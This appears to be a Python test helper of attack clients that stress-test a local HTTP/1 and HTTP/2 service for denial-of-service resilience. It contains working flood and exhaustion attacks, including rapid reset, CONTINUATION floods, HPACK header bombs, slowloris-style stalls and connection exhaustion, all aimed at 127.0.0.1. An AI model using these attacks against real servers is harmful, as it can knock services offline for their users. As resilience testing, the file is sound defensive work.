"""Clients that mean harm, run by test_attacks.py as a process of their own.

attackers.py <attack> <port> <seconds> opens a connection, attacks, and when the service ends the connection opens the
next, until the time is over. attackers.py patient <port> <seconds> opens some connections of every kind that only waits, or
hardly moves, and looks how long the service lets them, and how much of that time it was held up itself. attackers.py crowd <port> <seconds> opens as many connections as it can.
Each prints "go" when it begins, and one JSON object at the end.
"""

import json
import resource
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/openapi.json"
BATCH = 500


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(text):
    assert len(text) < 127
    return bytes((len(text),)) + text


def number(value, bits):
    """An integer of HPACK with nothing in the upper bits of its first byte."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((value,))
    out, value = bytes((limit,)), value - limit
    while value >= 128:
        out, value = out + bytes((value % 128 + 128,)), value // 128
    return out + bytes((value,))


GET = b"\x82\x86\x04" + literal(PATH)
POST = b"\x83\x86\x04" + literal(b"/api/v1/positions")
# One entry of the dynamic table that is nearly as large as the table, and the byte that repeats it.
LARGE_FIELD = b"\x40" + literal(b"x-large") + number(4000, 7) + b"a" * 4000
REPEAT = b"\xbe"


def streams(make):
    """Batches of what make() gives for one stream after the other."""
    stream = 1
    while stream < 2**31 - 2 * BATCH:
        yield b"".join(make(number) for number in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def again(*batch):
    batch = b"".join(batch)
    while True:
        yield batch


def after(first, rest):
    yield first
    yield from rest


def request(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)


def window(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def settings(**values):
    kinds = {"header_table_size": 1, "window": 4}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", kinds[name], value) for name, value in values.items()))


def declared(length):
    return POST + b"\x0f\x0d" + literal(str(length).encode())


def large_uploads():
    """Bodies that are refused by their declared length, sent all the same."""
    body = b"".join(frame(DATA, 0, 0, b"x" * 16384) for _ in range(64))
    stream = 1
    while True:
        yield frame(HEADERS, END_HEADERS, stream, declared(2**30))
        for _ in range(5):
            yield body.replace(frame(DATA, 0, 0, b"x" * 16384)[:9], frame(DATA, 0, stream, b"x" * 16384)[:9])
        stream += 2


def uploads_without_end():
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, POST)
        yield frame(DATA, 0, stream, b"x" * 16384) * 63
    while True:
        time.sleep(0.01)
        yield b""


HTTP2 = {
    "rapid_reset": lambda: streams(lambda s: request(s) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")),
    "reset_of_unfinished_requests": lambda: streams(lambda s: frame(HEADERS, END_HEADERS, s, POST) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")),
    "provoked_by_window_overflow": lambda: after(settings(window=0), streams(lambda s: request(s) + window(s, 2**31 - 1) + window(s, 2**31 - 1))),
    "provoked_by_window_of_nothing": lambda: after(settings(window=0), streams(lambda s: request(s) + window(s, 0))),
    "provoked_by_data_after_the_end": lambda: after(settings(window=0), streams(lambda s: request(s) + frame(DATA, 0, s, b"x"))),
    "provoked_by_data_on_closed_streams": lambda: after(request(1), again(frame(DATA, 0, 1, b"x" * 100) * BATCH)),
    "provoked_by_missing_fields": lambda: streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, b"\x82\x86")),
    "provoked_by_a_wrong_length": lambda: streams(lambda s: frame(HEADERS, END_HEADERS, s, declared(9)) + frame(DATA, END_STREAM, s, b"x")),
    "provoked_by_bad_priority": lambda: streams(lambda s: request(s) + frame(PRIORITY, 0, s, struct.pack(">IB", s, 1))),
    "priority_flood": lambda: streams(lambda s: frame(PRIORITY, 0, 1, struct.pack(">IB", s + 2, 1))),
    "header_bomb": lambda: after(frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + LARGE_FIELD),
                                 streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s + 2, GET + REPEAT * 16000))),
    "header_bomb_that_waits_for_a_body": lambda: after(frame(HEADERS, END_HEADERS, 1, POST + LARGE_FIELD),
                                                       streams(lambda s: frame(HEADERS, END_HEADERS, s + 2, POST + REPEAT * 16000))),
    "header_bomb_in_a_trailer": lambda: streams(lambda s: frame(HEADERS, END_HEADERS, s, POST) +
                                                frame(HEADERS, END_STREAM | END_HEADERS, s, b"\x90" * 16000)),
    "header_block_without_end": lambda: after(frame(HEADERS, 0, 1, GET), again(frame(CONTINUATION, 0, 1, b"\x90" * 16384))),
    "empty_continuations": lambda: after(frame(HEADERS, 0, 1, GET), again(frame(CONTINUATION, 0, 1) * BATCH)),
    "empty_data": lambda: after(frame(HEADERS, END_HEADERS, 1, POST), again(frame(DATA, 0, 1) * BATCH)),
    "padded_data": lambda: after(frame(HEADERS, END_HEADERS, 1, POST), again(frame(DATA, 8, 1, b"\xff" + b"\0" * 255) * BATCH)),
    "ping_flood": lambda: again(frame(PING, 0, 0, b"12345678") * BATCH),
    "settings_flood": lambda: again((settings(window=1) + settings(window=65535)) * BATCH),
    "window_flood": lambda: again(window(0, 1) * BATCH),
    "answer_byte_by_byte": lambda: after(settings(window=0) + request(1), again(window(1, 1) * BATCH)),
    "unknown_frames": lambda: again(frame(99, 0, 0, b"x" * 20) * BATCH),
    "refused_uploads": large_uploads,
    "uploads_without_end": uploads_without_end,
}


def fields_without_number():
    return again(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(90)) + b"\r\n")


def head_without_end():
    return after(b"GET / HTTP/1.1\r\nHost: x\r\n", again(b"X-Long: " + b"y" * 8000 + b"\r\n"))


HTTP1 = {
    "http1_header_fields": fields_without_number,
    "http1_head_without_end": head_without_end,
    "http1_chunks_without_end": lambda: after(b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", again(b"1\r\nx\r\n" * BATCH)),
    "http1_nonsense": lambda: again(b"\x16\x03\x01" + b"\0" * 4000),
}
ATTACKS = list(HTTP2) + list(HTTP1)


class Attack:
    def __init__(self, name, port):
        self.address = ("127.0.0.1", port)
        self.is_http2 = name in HTTP2
        self.make = HTTP2.get(name) or HTTP1[name]
        self.opened = self.ended = self.sent = self.longest = 0
        self.heard = b""

    def listen(self, connection):
        """Whether the service has ended the connection. What it says is read, so that it can go on."""
        while select.select([connection], [], [], 0)[0]:
            data = connection.recv(1 << 20)
            if not data:
                return True
            self.heard = (self.heard + data)[-4096:]
        return False

    def once(self, until):
        self.opened += 1
        begun, before = time.monotonic(), self.sent
        with socket.create_connection(self.address) as connection:
            connection.settimeout(0.2)
            try:
                if self.is_http2:
                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for batch in self.make():
                    if time.monotonic() > until:
                        break
                    rest = memoryview(batch)
                    while rest and time.monotonic() < until:
                        if self.listen(connection):
                            raise ConnectionResetError
                        try:
                            done = connection.send(rest)
                        except TimeoutError:
                            continue
                        self.sent += done
                        rest = rest[done:]
                # The time is over; what was sent is looked at all the same.
                patience = time.monotonic() + 0.5
                while time.monotonic() < patience:
                    if self.listen(connection):
                        raise ConnectionResetError
                    time.sleep(0.01)
            except (ConnectionResetError, BrokenPipeError):
                self.ended += 1
        self.longest = max(self.longest, self.sent - before)
        return time.monotonic() - begun


# What is sent first, and what every half second from then on.
BEAT_SECONDS = 0.5
GETS = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 50
PATIENT = {
    "silent": (b"", b""),
    "half_a_preface": (PREFACE[:10], b""),
    "http1_head": (b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"y"),
    "http1_body": (b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n", b"y"),
    "http1_chunked_body": (b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\ny\r\n"),
    "http1_reads_nothing": (GETS, GETS),
    "http2_head": (PREFACE + settings() + frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1, b"\x90")),
    "http2_body": (PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1, b"y")),
    "http2_body_behind_answers": (PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1, b"y") + frame(PING, 0, 0, b"12345678")),
    "http2_reads_nothing": (PREFACE + settings(window=2**31 - 1) + window(0, 2**31 - 65536) + b"".join(request(s) for s in range(1, 200, 2)), b""),
    "http2_window_of_zero": (PREFACE + settings(window=0) + b"".join(request(s) for s in range(1, 200, 2)), b""),
    "http2_window_of_zero_with_pings": (PREFACE + settings(window=0) + b"".join(request(s) for s in range(1, 100, 2)), frame(PING, 0, 0, b"12345678")),
}
READS_NOTHING = ("http1_reads_nothing", "http2_reads_nothing")
PATIENT_EACH = 10


class Waiter:
    def __init__(self, kind, port):
        self.kind = kind
        self.ended = None
        self.connection = socket.socket()
        if kind in READS_NOTHING:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.connection.connect(("127.0.0.1", port))
        self.connection.setblocking(False)
        self.begun = time.monotonic()
        self.say(PATIENT[kind][0])

    def say(self, data):
        try:
            if data:
                self.connection.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.end()

    def end(self):
        self.ended = self.ended or time.monotonic() - self.begun

    def beat(self):
        if self.ended is not None:
            return
        self.say(PATIENT[self.kind][1])
        poller = select.poll()
        poller.register(self.connection, select.POLLRDHUP | (0 if self.kind in READS_NOTHING else select.POLLIN))
        for _, events in poller.poll(0):
            if events & (select.POLLRDHUP | select.POLLHUP | select.POLLERR):
                self.end()
            elif not self.connection.recv(1 << 20):
                self.end()


def patient(port, until):
    waiters = [Waiter(kind, port) for kind in PATIENT for _ in range(PATIENT_EACH)]
    print("go", flush=True)
    last, held_up = time.monotonic(), 0.0
    while time.monotonic() < until and any(waiter.ended is None for waiter in waiters):
        for waiter in waiters:
            waiter.beat()
        time.sleep(BEAT_SECONDS)
        now = time.monotonic()
        last, held_up = now, held_up + max(0.0, now - last - 1.5 * BEAT_SECONDS)
    longest = {}
    for waiter in waiters:
        longest[waiter.kind] = max(longest.get(waiter.kind, 0), waiter.ended or 10**6)
    return {"opened": len(waiters), "ended": sum(waiter.ended is not None for waiter in waiters),
            "longest_seconds": {kind: round(seconds, 1) for kind, seconds in longest.items()}, "held_up_seconds": round(held_up, 1)}


def crowd(port, until):
    """As many connections as there are descriptors for; those that are ended are replaced."""
    poller, connections, opened, ended = select.epoll(), {}, 0, 0
    print("go", flush=True)
    while time.monotonic() < until:
        while len(connections) < 3000 and time.monotonic() < until:
            connection = socket.create_connection(("127.0.0.1", port))
            connection.send(b"GET / HTTP/1.1\r\nX-Slow: ")
            connections[connection.fileno()] = connection
            poller.register(connection, select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)
            opened += 1
            if opened % 100 == 0:
                break
        for descriptor, _ in poller.poll(0.001):
            poller.unregister(descriptor)
            connections.pop(descriptor).close()
            ended += 1
    return {"opened": opened, "ended": ended}


def attack(name, port, until):
    attack = Attack(name, port)
    longest_seconds = 0
    print("go", flush=True)
    while time.monotonic() < until:
        longest_seconds = max(longest_seconds, attack.once(until))
    return {"opened": attack.opened, "ended": attack.ended, "sent": attack.sent, "longest": attack.longest,
            "longest_seconds": round(longest_seconds, 3), "heard": attack.heard[-200:].decode("latin-1")}


def main(name, port, seconds):
    until = time.monotonic() + float(seconds)
    if name == "patient":
        done = patient(int(port), until)
    elif name == "crowd":
        limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
        done = crowd(int(port), until)
    else:
        done = attack(name, int(port), until)
    print(json.dumps(done))


if __name__ == "__main__":
    main(*sys.argv[1:])
